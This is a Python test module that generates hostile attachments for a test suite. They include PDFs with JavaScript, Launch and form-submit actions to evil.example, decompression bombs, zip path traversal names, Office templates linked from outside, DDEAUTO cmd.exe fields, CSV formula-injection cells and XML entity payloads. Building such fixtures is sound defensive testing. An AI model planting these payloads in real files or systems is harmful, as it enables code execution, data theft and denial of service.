"""Hostile attachments: PDF, XLSX, DOCX, CSV and pictures that run, hide, lie, burst or are damaged."""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Callable, Iterator

from pikepdf import Array, Dictionary, Encryption, Name, Object, Pdf, String

from tests import papers
from tests.hostile import Case
from tests.hostile.lists import _FILE, _LAUGHS

PDF = papers.pdf_of("คำสั่งสำนักงาน")
Change = Callable[[Pdf], object]


def cases() -> Iterator[Case]:
    """Give the cases."""
    for suffix, made in (
        ("pdf", _pdfs()),
        ("docx", _documents()),
        ("xlsx", _sheets()),
        ("csv", _texts()),
        ("png", _pngs()),
    ):
        for name, data in made:
            yield Case(f"attached {suffix}: {name}", f"2566/files/a.{suffix}", data)
    for name, data in _jpegs():
        yield Case(f"attached jpg: {name}", "2566/files/a.jpg", data)


# ── PDF ───────────────────────────────────────────────────────────────────────────────────────────────────────────────


def _action(kind: str, **more: Object | str) -> Dictionary:
    made = Dictionary(S=Name(f"/{kind}"))
    for name, value in more.items():
        made[f"/{name}"] = value
    return made


_SCRIPT = String("app.alert(1)")
ACTIONS: dict[str, Callable[[], Dictionary]] = {
    "script": lambda: _action("JavaScript", JS=_SCRIPT),
    "launch": lambda: _action("Launch", F=String("cmd.exe")),
    "send a form": lambda: _action("SubmitForm", F=String("https://evil.example/")),
    "import data": lambda: _action("ImportData", F=String("c:/x.fdf")),
    "sound": lambda: _action("Sound"),
    "movie": lambda: _action("Movie"),
    "rendition": lambda: _action("Rendition"),
    "script address": lambda: _action("URI", URI=String("javascript:alert(1)")),
    "script address in capitals": lambda: _action("URI", URI=String(" JaVaScRiPt:alert(1)")),
    "file address": lambda: _action("URI", URI=String("file:///etc/passwd")),
    "share address": lambda: _action("URI", URI=String("\\\\evil\\share")),
    "data address": lambda: _action("URI", URI=String("data:text/html,x")),
}


def _on_opening(action: Dictionary) -> Change:
    return papers.with_root(OpenAction=action)


def _on_a_note(action: Dictionary) -> Change:
    def change(pdf: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        pdf.pages[0].Annots = Array([note])

    return change


def _after_another(action: Dictionary) -> Change:
    return papers.with_root(OpenAction=_action("GoTo", Next=Array([action])))


def _in_a_name_tree(action: Dictionary) -> Change:
    return papers.with_root(Names=Dictionary(Dests=Dictionary(Names=Array([String("a"), action]))))


def _in_an_outline(action: Dictionary) -> Change:
    return papers.with_root(Outlines=Dictionary(First=Dictionary(Title=String("ก"), A=action)))


WAYS = (_on_opening, _on_a_note, _after_another, _in_a_name_tree, _in_an_outline)


def _pdfs() -> Iterator[tuple[str, bytes]]:
    for name, action in ACTIONS.items():
        for way in WAYS:
            yield f"{name}{way.__name__.replace('_', ' ')}", papers.pdf_of(change=way(action()))
    for name, change in _CHANGES.items():
        yield name, papers.pdf_of("ก", change=change)
    yield "locked", papers.pdf_of("ก", encryption=Encryption(owner="a", user="b"))
    yield "locked for its owner", papers.pdf_of("ก", encryption=Encryption(owner="a", user=""))
    yield (
        "locked as of old",
        papers.pdf_of("ก", encryption=Encryption(owner="a", user="b", R=3, metadata=False, aes=False)),
    )
    yield "page starts late", b"\n" + PDF
    yield "page of HTML", b"<script>alert(1)</script>"
    yield "page and then HTML", PDF + b"<script>alert(1)</script>"
    yield "HTML after the first line", PDF[:9] + b"<html><script>alert(1)</script>\n" + PDF[9:]
    yield "only a name", b"%PDF-"
    yield "zip behind it", PDF + papers.zip_of({"a": "b"})
    yield from _bursting()
    for part in range(1, 20):
        yield f"cut to {part}/20", PDF[: len(PDF) * part // 20]
    chance = random.Random(2566)  # noqa: S311  the same in every run
    for number in range(40):
        data = bytearray(PDF)
        for _ in range(1 + number % 5):
            data[chance.randrange(10, len(data))] = chance.randrange(256)
        yield f"damaged {number}", bytes(data)


def _stream(pdf: Pdf, data: bytes) -> Object:
    return pdf.make_indirect(pdf.make_stream(data))


def _nested(depth: int) -> Object:
    inner: Object = Array([1])
    for _ in range(depth):
        inner = Array([inner])
    return inner


_CHANGES: dict[str, Change] = {
    "script in the catalog": papers.with_root(
        Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _action("JavaScript", JS=_SCRIPT)])))
    ),
    "script in a stream": lambda pdf: papers.with_root(
        OpenAction=_action("JavaScript", JS=_stream(pdf, b"app.alert(1)"))
    )(pdf),
    "another file": lambda pdf: pdf.attachments.__setitem__("a.exe", b"MZ"),
    "another file in a note": lambda pdf: papers.with_root(EF=Dictionary(F=_stream(pdf, b"MZ")))(pdf),
    "by itself": papers.with_root(AA=Dictionary(WC=_action("GoTo"))),
    "by itself on a page": lambda pdf: pdf.pages[0].__setitem__("/AA", Dictionary(O=_action("GoTo"))),
    "form of XML": lambda pdf: papers.with_root(
        AcroForm=Dictionary(Fields=Array([]), XFA=Array([String("x"), _stream(pdf, b"<x/>")]))
    )(pdf),
    "rich media": lambda pdf: pdf.pages[0].__setitem__(
        "/Annots", Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])
    ),
    "three dimensions": lambda pdf: pdf.pages[0].__setitem__(
        "/Annots", Array([Dictionary(Type=Name.Annot, Subtype=Name("/3D"))])
    ),
    "no pages": lambda pdf: pdf.pages.__delitem__(slice(None)),
    "deep": papers.with_root(Deep=_nested(400)),
    "itself": lambda pdf: papers.with_root(Self=pdf.Root.Pages)(pdf),
    "picture only": papers.with_picture,
}


def _packed(pdf: Pdf, data: bytes, *, twice: bool = False) -> Object:
    packed = zlib.compress(data, 9)
    stream = pdf.make_stream(zlib.compress(packed, 9) if twice else packed)
    stream.stream_dict = Dictionary(Filter=Array([Name.FlateDecode] * 2) if twice else Name.FlateDecode)
    return pdf.make_indirect(stream)


def _drawing_of(depth: int, times: int) -> Change:
    def change(pdf: Pdf) -> None:
        inner = papers.form_of(pdf, b"BT ET", {})
        for _ in range(depth):
            inner = papers.form_of(pdf, b"/X Do " * times, {"X": inner})
        pdf.pages[0].Resources.XObject = Dictionary(X=inner)
        pdf.pages[0].Contents = pdf.make_stream(b"/X Do")

    return change


def _drawing_of_itself(pdf: Pdf) -> None:
    form = papers.form_of(pdf, b"/X Do", {})
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    pdf.pages[0].Resources.XObject = Dictionary(X=form)
    pdf.pages[0].Contents = pdf.make_stream(b"/X Do")


def _bursting() -> Iterator[tuple[str, bytes]]:
    """Give small files that unpack to large ones, where a reader unpacks."""
    drawn = b"BT /F1 9 Tf (a) Tj ET\n" * 2_000_000
    spaces = b" " * 40_000_000

    def page_of(data: bytes, *, twice: bool = False) -> Change:
        return lambda pdf: pdf.pages[0].__setitem__("/Contents", _packed(pdf, data, twice=twice))

    def form(pdf: Pdf) -> None:
        packed = _packed(pdf, drawn)
        packed.stream_dict.Subtype = Name.Form
        packed.stream_dict.BBox = Array([0, 0, 9, 9])
        pdf.pages[0].Resources.XObject = Dictionary(X=packed)
        pdf.pages[0].Contents = pdf.make_stream(b"/X Do")

    def parts(pdf: Pdf) -> None:
        pdf.pages[0].Contents = Array([_packed(pdf, drawn[: 22 * 300_000]) for _ in range(30)])

    def said(pdf: Pdf) -> None:
        pdf.Root.Metadata = _packed(pdf, b"<x>" + b"1" * 40_000_000)

    def unicodes(pdf: Pdf) -> None:
        pdf.pages[0].Resources.Font.F1.ToUnicode = _packed(pdf, b"<0001> <0001>\n" * 3_000_000)

    for name, change in (
        ("page that unpacks to much", page_of(drawn)),
        ("page of spaces", page_of(spaces)),
        ("page packed twice", page_of(spaces, twice=True)),
        ("page of many parts", parts),
        ("drawing that unpacks to much", form),
        ("drawings twice in drawings", _drawing_of(15, 2)),
        ("drawings often in drawings", _drawing_of(3, 3_000)),
        ("drawings deep in drawings", _drawing_of(60, 1)),
        ("drawing of itself", _drawing_of_itself),
        ("letters without end", page_of(b"BT /F1 9 Tf " + b"<01> Tj " * 400_000 + b"ET")),
        ("lines without end", page_of(b"0 0 m 9 9 l S " * 210_000)),
        ("words about it that unpack to much", said),
        ("letters that unpack to much", unicodes),
    ):
        yield name, papers.pdf_of("ก", change=change, compress_streams=False, fix_metadata_version=False)
    yield "table of objects that unpacks to much", _table_bomb()
    yield "many pages", papers.pdf_of(*[""] * 2_001)


def _table_bomb() -> bytes:
    packed = zlib.compress(b"\0" * 60_000_000, 9)
    head = f"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length {len(packed)}>>stream\n".encode()
    return head + packed + b"\nendstream endobj\ntrailer<</Root 2 0 R>>\n%%EOF\n"


# ── Office ────────────────────────────────────────────────────────────────────────────────────────────────────────────

_PARTS = {
    "macros": "word/vbaProject.bin",
    "macros apart": "word/vbaData.xml",
    "controls": "word/activeX/activeX1.xml",
    "embedded sheet": "word/embeddings/sheet1.xlsx",
    "embedded object": "word/embeddings/oleObject1.bin",
    "program": "word/media/a.exe",
    "drawing that runs": "word/media/a.svg",
    "ribbon": "customUI/customUI14.xml",
    "macro sheet": "xl/macrosheets/sheet1.xml",
    "dialog sheet": "xl/dialogsheets/sheet1.xml",
    "link to a workbook": "xl/externalLinks/externalLink1.xml",
    "connection": "xl/connections.xml",
    "query": "xl/queryTables/queryTable1.xml",
    "way up": "../../etc/cron.d/x",
    "way from the root": "/etc/passwd",
    "way of Windows": "..\\..\\x.exe",
    "drive": "C:/x.exe",
    "dots in the middle": "word/../../x.xml",
    "name with a line feed": "word/a\nb.xml",
}
_LINKS = {
    "template from outside": ("attachedTemplate", "https://evil.example/t.dotm"),
    "picture from outside": ("image", "https://evil.example/a.png"),
    "frame from outside": ("frame", "https://evil.example/"),
    "object from outside": ("oleObject", "https://evil.example/"),
    "script link": ("hyperlink", "javascript:alert(1)"),
    "file link": ("hyperlink", "file:///etc/passwd"),
    "share link": ("hyperlink", "\\\\evil\\x"),
}
_FIELDS = (
    "DDEAUTO c:\\\\windows\\\\cmd.exe",
    "DDE excel x",
    "INCLUDETEXT https://evil.example/",
    "INCLUDEPICTURE https://evil.example/",
)


def _office(good: bytes) -> Iterator[tuple[str, bytes]]:
    """Give what may be wrong with any zip of parts."""
    for name, part in _PARTS.items():
        yield name, papers.with_parts(good, {part: "<x/>"})
    for name, (kind, target) in _LINKS.items():
        yield name, papers.with_parts(good, {"word/_rels/document.xml.rels": papers.relations(kind, target)})
    yield "entities", papers.with_parts(good, {"docProps/core.xml": _LAUGHS + b"<x>&a9;</x>"})
    yield "file from outside", papers.with_parts(good, {"docProps/core.xml": _FILE + b"<x>&e;</x>"})
    yield (
        "entities in UTF-16",
        papers.with_parts(good, {"docProps/core.xml": (_LAUGHS + b"<x/>").decode().encode("utf-16")}),
    )
    yield "part that unpacks to much", papers.with_parts(good, {"docProps/app.xml": b"<x>" + b" " * 60_000_000})
    yield "part a little too large", papers.with_parts(good, {"docProps/app.xml": b"<x>" + b" " * 45_000_000 + b"</x>"})
    yield "lying size", _lying(papers.with_parts(good, {"docProps/app.xml": b"<x>" + b" " * 30_000_000 + b"</x>"}))
    yield "many parts", papers.with_parts(good, {f"word/p{number}.xml": "" for number in range(5_100)})
    yield "deep markup", papers.with_parts(good, {"docProps/app.xml": b"<x>" * 60_000})
    yield "broken markup", papers.with_parts(good, {"docProps/app.xml": b"<x"})
    yield (
        "type of macros",
        papers.with_parts(
            good,
            {
                "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            },
        ),
    )
    yield "something before it", b"MZ" + good
    yield "old file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096
    yield "password", _with_flag(good)
    for tenth in range(1, 10):
        yield f"cut to {tenth}/10", good[: len(good) * tenth // 10]
    chance = random.Random(2566)  # noqa: S311  the same in every run
    for number in range(20):
        data = bytearray(good)
        for _ in range(1 + number % 4):
            data[chance.randrange(4, len(data))] = chance.randrange(256)
        yield f"damaged {number}", bytes(data)


def _documents() -> Iterator[tuple[str, bytes]]:
    good = papers.docx_of()
    yield from _office(good)
    yield "sheet", papers.xlsx_of([["ก"]])
    yield "parts of one name", papers.zip_of([*papers.docx_parts().items(), ("word/Document.xml", "<x/>")])
    for which, field in enumerate(_FIELDS):
        yield f"field {which}", papers.docx_of(f"<w:p><w:r><w:instrText>{field}</w:instrText></w:r></w:p>")
        yield f"simple field {which}", papers.docx_of(f'<w:p><w:fldSimple w:instr="{field}"/></w:p>')
    yield "too many words", papers.docx_of(papers.runs("ก" * 5_000_001))


def _sheets() -> Iterator[tuple[str, bytes]]:
    good = papers.xlsx_of([["ก", 1]])
    yield from _office(good)
    yield "document", papers.docx_of()
    for formula in ("=cmd|'/c calc'!A1", "=DDE(1)", "=msexcel|'\\..\\cmd.exe'!x"):
        yield f"formula {formula}", papers.xlsx_of([[formula]])


def _lying(packed: bytes) -> bytes:
    """Say of every part that it is small."""
    data = bytearray(packed)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", data, at + 24, min(struct.unpack_from("<I", data, at + 24)[0], 100))
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _with_flag(packed: bytes) -> bytes:
    """Say of every part that it has a password."""
    data = bytearray(packed)
    for mark, flag in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = data.find(mark)
        while at >= 0:
            data[at + flag] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


# ── Text and pictures ─────────────────────────────────────────────────────────────────────────────────────────────────

_CELLS = (
    "=1+1",
    "=HYPERLINK(1)",
    "@SUM(1)",
    "+cmd|'/c calc'!A1",
    "-cmd|'/c calc'!A1",
    '"=cmd()"',
    " =1",
    "\t=1",
    '" =1"',
)


def _texts() -> Iterator[tuple[str, bytes]]:
    for number, cell in enumerate(_CELLS):
        yield f"cell {number}", f"ก,ข\nค,{cell}\n".encode()
    yield "TIS-620", "ก,ข\n".encode("tis-620")
    yield "NUL", b"a,b\n" + b"x" * 5000 + b"\0"
    yield "UTF-16", "ก,ข\n".encode("utf-16")
    yield "picture", papers.picture_of("PNG")
    yield "too many words", b"x,\n" * 4_000_000
    yield "signs", b"=" * 100_000
    yield "pluses", b"+" * 100_000
    yield "minuses and letters", b"-a" * 200_000
    yield "commas and minuses", b",-x" * 200_000


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, data: bytes = b"", *more: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + _chunk(b"IDAT", zlib.compress(data, 9)) + _chunk(b"IEND", b"")


def _pngs() -> Iterator[tuple[str, bytes]]:
    good = papers.picture_of("PNG", (64, 64))
    yield "very wide", _png(60_000, 60_000)
    yield "wide beyond numbers", _png(2**31 - 1, 2**31 - 1)
    yield "of no width", _png(0, 0)
    yield "as large as may be, unpacked to nothing", _png(10_000, 10_000)
    yield "unpacks to much", _png(64, 64, b"\0" * 60_000_000)
    yield (
        "words that unpack to much",
        _png(8, 8, b"\0" * 200, _chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 60_000_000, 9))),
    )
    yield (
        "profile that unpacks to much",
        _png(8, 8, b"\0" * 200, _chunk(b"iCCP", b"a\0\0" + zlib.compress(b"x" * 60_000_000, 9))),
    )
    yield "number of a person in its words", _png(8, 8, b"\0" * 200, _chunk(b"tEXt", b"Comment\0001103702071811"))
    yield "JPEG", papers.picture_of("JPEG")
    yield "GIF", papers.picture_of("GIF")
    yield "drawing", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    yield "script behind it", good + b"<script>alert(1)</script>"
    yield "only its first bytes", good[:8]
    for part in range(1, 8):
        yield f"cut to {part}/8", good[: len(good) * part // 8]


def _jpegs() -> Iterator[tuple[str, bytes]]:
    good = papers.picture_of("JPEG", (64, 64))
    size = good.index(b"\xff\xc0") + 5
    yield "very wide", good[:size] + b"\xff\xff\xff\xff" + good[size + 4 :]
    yield "of no width", good[:size] + b"\0\0\0\0" + good[size + 4 :]
    yield "PNG", papers.picture_of("PNG")
    yield "only its first bytes", good[:3]
    yield "script in its comment", papers.picture_of("JPEG", comment=b"<script>alert(1)</script>")
    for part in range(1, 8):
        yield f"cut to {part}/8", good[: len(good) * part // 8]
